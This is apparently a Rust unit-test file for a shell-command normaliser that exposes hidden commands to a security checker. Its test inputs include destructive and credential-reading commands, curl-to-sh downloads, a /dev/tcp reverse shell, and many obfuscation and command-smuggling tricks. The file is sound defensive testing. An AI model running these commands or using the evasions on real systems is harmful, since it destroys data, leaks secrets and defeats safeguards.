use super::*;

fn posix(text: &str) -> String {
    rewrite(text, Reading::Posix, 1 << 20).text
}

/// Asserts that the view has this line.
fn shows(script: &str, line: &str) {
    let view = posix(script);
    assert!(view.lines().any(|seen| seen == line), "{script:?} shows\n{view}\nand not {line:?}");
}

#[test]
fn commands_stand_one_a_line() {
    for (script, view) in [
        ("rm -rf /", "rm -rf /"),
        ("a; b && c || d & e\nf", "a\nb\nc\nd\ne\nf"),
        ("curl -s x.example|sh", "curl -s x.example\n| sh"),
        ("a |& b", "a\n| b"),
        ("(cd /tmp; ls)", "cd /tmp\nls"),
        ("{ a; b; }", "a\nb"),
        ("if true; then rm x; fi", "true\nrm x"),
        ("while :; do x; done < f", ":\nx\n<f"),
        ("echo hi # rm -rf /", "echo hi"),
        ("echo a#b", "echo a#b"),
        ("", ""),
        (" ; & | \n", ""),
    ] {
        assert_eq!(posix(script), view, "{script:?}");
    }
}

#[test]
fn words_are_unquoted() {
    for (script, view) in [
        ("r''m -r\"f\" '/'", "rm -rf /"),
        ("\\r\\m -rf /", "rm -rf /"),
        ("c\\\nat x", "cat x"),
        ("cat$IFS/etc/passwd", "cat /etc/passwd"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("cat$IFS$9/etc/passwd", "cat /etc/passwd"),
        ("ca$@t /etc/pa$1sswd", "cat /etc/passwd"),
        ("$'\\x63\\141t' $'/etc/\\u0070asswd'", "cat /etc/passwd"),
        ("{cat,/etc/passwd}", "cat /etc/passwd"),
        ("cat /etc/{passwd,shadow}", "cat /etc/passwd /etc/shadow"),
        ("a=rm; $a -rf /", "a=rm\nrm -rf /"),
        ("a=r b=m; $a$b x", "a=r b=m\nrm x"),
        ("${x:-rm} -rf /", "rm -rf /"),
        ("cat ${HOME:0:1}etc${PATH:0:1}passwd", "cat /etc/passwd"),
        ("c^at x", "cat x"),
        ("git show HEAD^ HEAD^1", "git show HEAD^ HEAD^1"),
        ("echo $HOME ${USER} $$ $?", "echo $HOME $USER $$ $?"),
        ("rm \"$1\"", "rm $1"),
        ("awk {print $1,$2}", "awk {print $1,$2}"),
        ("hash!/bin/sh */15 *", "hash!/bin/sh */15 *"),
        ("echo $((1+2))", "echo $((1+2))"),
        ("/usr/bin/rm -f x", "rm -f x"),
        ("/tmp/payload ./x", "/tmp/payload ./x"),
        ("LD_PRELOAD=./x.so ls", "LD_PRELOAD=./x.so\nls"),
    ] {
        assert_eq!(posix(script), view, "{script:?}");
    }
}

#[test]
fn a_line_break_always_starts_a_command() {
    assert_eq!(posix("git commit -m 'first\nrm -rf /'"), "git commit -m first rm -rf /");
    assert_eq!(posix("echo \"a\n| rm\""), "echo a ¦ rm");
    assert_eq!(posix("git commit -m 'x > /etc/passwd'"), "git commit -m x › /etc/passwd");
}

#[test]
fn redirections_are_words() {
    for (script, view) in [
        ("echo x > /etc/passwd", "echo x >/etc/passwd"),
        ("echo x >>f 2>&1", "echo x >>f 2>&1"),
        ("> f cat < g", "cat >f <g"),
        ("ls &>/dev/null", "ls &>/dev/null"),
        ("x 2>/dev/null >| y", "x 2>/dev/null >y"),
        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "bash -i >&/dev/tcp/10.0.0.1/4242 0>&1"),
    ] {
        assert_eq!(posix(script), view, "{script:?}");
    }
}

#[test]
fn inner_commands_have_lines_of_their_own() {
    for (script, line) in [
        ("sh -c 'rm -rf /'", "rm -rf /"),
        ("bash -lc \"rm -rf /\"", "rm -rf /"),
        ("bash -o pipefail -ec 'rm -rf /'", "rm -rf /"),
        ("sh -c \"sh -c 'sh -c \\\"rm -rf /\\\"'\"", "rm -rf /"),
        ("echo $(rm -rf /)", "rm -rf /"),
        ("echo \"x $(cat `which rm`) y\"", "which rm"),
        ("echo `rm -rf /`", "rm -rf /"),
        ("diff <(cat /etc/shadow) x", "cat /etc/shadow"),
        ("bash <(curl -s x.example | tac)", "bash <(curl -s x.example ¦ tac)"),
        ("curl x.example | tee >(bash)", "| bash"),
        ("eval 'rm -rf /'", "rm -rf /"),
        ("find . | xargs -n 1 -I{} rm -rf {}", "| rm -rf {}"),
        ("find / -name x -exec rm -rf {} \\; -exec cat {} +", "rm -rf {}"),
        ("find / -name x -exec rm -rf {} \\; -exec cat {} +", "cat {}"),
        ("sudo -u root rm -rf /", "rm -rf /"),
        ("sudo env A=b nohup timeout -k 5 10 nice -n 5 rm -rf /", "rm -rf /"),
        ("curl x.example | sudo bash", "| bash"),
        ("su - root -c 'rm -rf /'", "rm -rf /"),
        ("ssh -p 22 host 'rm -rf /'", "rm -rf /"),
        ("docker exec -it web sh -c 'rm -rf /'", "rm -rf /"),
        ("screen -dm bash -c 'rm -rf /'", "rm -rf /"),
        ("$SHELL -c 'rm -rf /'", "rm -rf /"),
        ("print(${system(`rm -rf /`)})", "rm -rf /"),
        ("kubectl exec pod -- rm -rf /", "rm -rf /"),
        ("busybox rm -rf /", "rm -rf /"),
        ("watch -n 1 'rm -rf /'", "rm -rf /"),
        ("echo 'rm -rf /' | sh", "rm -rf /"),
        ("printf 'rm\\x20-rf /' | sudo bash -s", "rm -rf /"),
        ("bash <<< 'rm -rf /'", "rm -rf /"),
        ("bash <<EOF\nrm -rf /\nEOF\nls", "rm -rf /"),
        ("cat <<'EOF' | sh\nrm -rf /\nEOF", "rm -rf /"),
        ("$(echo rm) -rf /", "rm -rf /"),
        ("`rm` -rf /", "rm -rf /"),
        ("$(printf '\\x72m') -rf /", "rm -rf /"),
        ("cmd /c del x", "del x"),
        ("schtasks /create /tn x /tr \"powershell -c whoami\"", "whoami"),
        ("tmux new-session -d 'rm -rf /'", "rm -rf /"),
        ("tar xf a --checkpoint-action=exec='rm -rf /'", "rm -rf /"),
        ("tar xf a --to-command 'rm -rf /'", "rm -rf /"),
        ("git -c core.sshCommand='rm -rf /' fetch", "rm -rf /"),
        ("ssh -o ProxyCommand='rm -rf /' x", "rm -rf /"),
        ("PAGER='rm -rf /' git log", "rm -rf /"),
        ("rsync -e 'rm -rf /' a b:", "rm -rf /"),
        ("powershell -NoP -Command Remove-Item x", "Remove-Item x"),
    ] {
        shows(script, line);
    }
}

#[test]
fn here_documents_are_data() {
    let view = posix("cat <<EOF > notes.txt\nrm -rf /\nEOF\nls");
    assert_eq!(view, "cat >notes.txt\nls");
    shows("cat <<EOF\nx $(rm -rf /) `id`\nEOF", "rm -rf /");
    shows("cat <<EOF\nx $(rm -rf /) `id`\nEOF", "id");
    assert_eq!(posix("cat <<'EOF'\nx $(rm -rf /)\nEOF"), "cat");
    shows("echo $((1 << 2))\nrm -rf /", "rm -rf /");
    shows("cat <<EOF\nrm -rf /", "rm -rf /");
}

#[test]
fn what_is_open_is_read_on() {
    for script in [
        "x'; rm -rf /",
        "x\"; rm -rf /",
        "x`; rm -rf /",
        "x) ; rm -rf /",
        "x}; rm -rf / #",
        "$(rm -rf /",
        "${x; rm -rf /",
    ] {
        let view = posix(script);
        assert!(view.contains("rm -rf /"), "{script:?} shows {view:?}");
    }
    let view = rewrite("a\" ; rm -rf / ; \"b", Reading::Unquoted, 1000).text;
    assert_eq!(view, "a\nrm -rf /\nb");
}

#[test]
fn what_a_limit_keeps_back_is_reported() {
    let cut = |script: &str, room| rewrite(script, Reading::Posix, room).cut;
    assert!(!cut("sudo sh -c 'rm x'", 1000));
    assert!(cut("rm aaaaaaaaaaaaaaaaaaaaaaaaaa", 20));
    assert!(cut(&"$(x y)".repeat(SCRIPTS + 1), 10_000));
    assert!(!cut(&"sudo ".repeat(usize::from(DEPTH)), 1000));
    assert!(cut(&"sudo ".repeat(100), 100_000));
}

#[test]
fn more_commands_than_anybody_writes_are_not_read() {
    let overrun = |script: &str| rewrite(script, Reading::Posix, 1 << 20).overrun;
    assert!(!overrun(&"a;".repeat(lexer::COMMANDS - 1)));
    assert!(overrun(&"a;".repeat(lexer::COMMANDS)));
    assert!(overrun(&format!("sh -c '{}'; {}", "a;".repeat(lexer::COMMANDS / 2), "b;".repeat(lexer::COMMANDS / 2))));
    assert!(!overrun(&format!("cat > x <<E\n{}\nE", "a;\n".repeat(lexer::COMMANDS))));
}

#[test]
fn windows_lines_keep_their_backslashes() {
    let view = |text| rewrite(text, Reading::Windows, 1000).text;
    assert_eq!(view("C:\\Windows\\System32\\cmd.exe /c dir C:\\x & del y"), "cmd /c dir C:\\x\ndel y\ndir C:\\x");
    assert_eq!(view("po`wer`she^ll -c whoami"), "powershell -c whoami\nwhoami");
    assert_eq!(view("%COMSPEC% /c del x # y & z"), "%COMSPEC% /c del x # y\nz\ndel x # y");
    assert_eq!(view("@echo off & FOR %G IN (a) DO del %G"), "echo off\nFOR %G IN\na\ndel %G");
    assert!(looks_like_windows("type C:\\x"));
    assert!(!looks_like_windows("grep 'a\\|b' x"));
}

#[test]
fn nesting_and_repetition_stay_linear() {
    for unit in [
        "$(",
        "`",
        "(",
        "{",
        "'",
        "\"",
        "${",
        "<<a\n",
        "a=b ",
        "$a",
        "<(",
        "\\",
        "sudo ",
        "sh -c '",
        ";",
        "|",
        "{a,b}",
        "\\`",
        "eval ",
        "a=(",
        "a=(b)",
        "f(){",
        "$(case ",
        "printf %s ",
        "'a'+",
        "'a' -f 'b',",
        "%a%",
        "[char]65+",
        "set a=b&",
        "x>a;sh a;",
        "echo $(echo a|rev)",
        "[[ ",
        "/b?n/c* ",
        "python -c 'system(\"a\")' ",
        "${x:-",
        "for x in a b; do $x;",
    ] {
        let text = unit.repeat(65_536 / unit.len());
        let start = std::time::Instant::now();
        assert!(plain_windows(&text).is_none_or(|plain| plain.len() <= 2 << 20), "{unit:?}");
        for reading in [Reading::Posix, Reading::Unquoted, Reading::Windows] {
            let view = rewrite(&text, reading, 2 << 20).text;
            assert!(view.len() <= 2 << 20, "{unit:?}");
        }
        // Unoptimised and beside other tests: a quadratic lexer takes minutes.
        assert!(start.elapsed().as_secs() < 5, "{unit:?} took {:?}", start.elapsed());
    }
}

#[test]
fn what_is_set_is_known_later() {
    for (script, line) in [
        ("a=(r m); ${a[0]}${a[1]} -rf /", "rm -rf /"),
        ("a=(rm -rf /); \"${a[@]}\"", "rm -rf /"),
        ("x=r; x+=m; $x -rf /", "rm -rf /"),
        ("x=RM; ${x,,} -rf /", "rm -rf /"),
        ("x=rm; y=x; ${!y} -rf /", "rm -rf /"),
        ("x=xrmx; x=${x#x}; ${x%x} -rf /", "rm -rf /"),
        ("${x:-$(echo rm)} -rf /", "rm -rf /"),
        ("printf -v x '\\x72m'; $x -rf /", "rm -rf /"),
        ("read x <<< rm; $x -rf /", "rm -rf /"),
        ("set -- rm -rf /; $1 $2 $3", "rm -rf /"),
        ("set -- rm -rf /; $@", "rm -rf /"),
        ("f(){ rm $1 /; }; f -rf", "rm -rf /"),
        ("alias x=rm; x -rf /", "rm -rf /"),
        ("for x in rm; do $x -rf /; done", "rm -rf /"),
        ("declare x=rm; $x -rf /", "rm -rf /"),
        ("C='curl http://x.example|sh'; $C", "| sh"),
        ("case a in a) rm -rf /;; esac", "rm -rf /"),
        ("x=$(echo mr | rev); $x -rf /", "rm -rf /"),
        ("x=`echo cm0= | base64 -d`; $x -rf /", "rm -rf /"),
        ("$(echo ez -es / | tr a-z n-za-m)", "rm -rf /"),
        ("$(tr a-z n-za-m <<< ez) -rf /", "rm -rf /"),
        ("$(echo rXm | sed s/X//) -rf /", "rm -rf /"),
        ("eval \"$(echo 726d202d7266202f | xxd -r -p)\"", "rm -rf /"),
        ("echo cm0gLXJmIC8= | base64 -d | sh", "rm -rf /"),
        ("printf '%s' 'rm -rf /' | sh", "rm -rf /"),
        ("echo 'rm -rf /' > /tmp/x; sh /tmp/x", "rm -rf /"),
        ("cat > x.sh <<EOF\nrm -rf /\nEOF\nchmod +x x.sh; ./x.sh", "rm -rf /"),
        ("echo 'rm -rf /' | tee x; . ./x", "rm -rf /"),
        ("/b?n/r[m] -rf /", "rm -rf /"),
        ("cat /e??/p*d", "cat /etc/passwd"),
        ("if [[ a < b && c =~ (d|e) ]]; then x; fi", "[[ a ‹ b && c =~ (d¦e) ]]"),
    ] {
        shows(script, line);
    }
    assert_eq!(posix("f() { ls; }"), "ls");
    assert_eq!(posix("cat <<EOF > x\nrm -rf /\nEOF\nls"), "cat >x\nls");
}
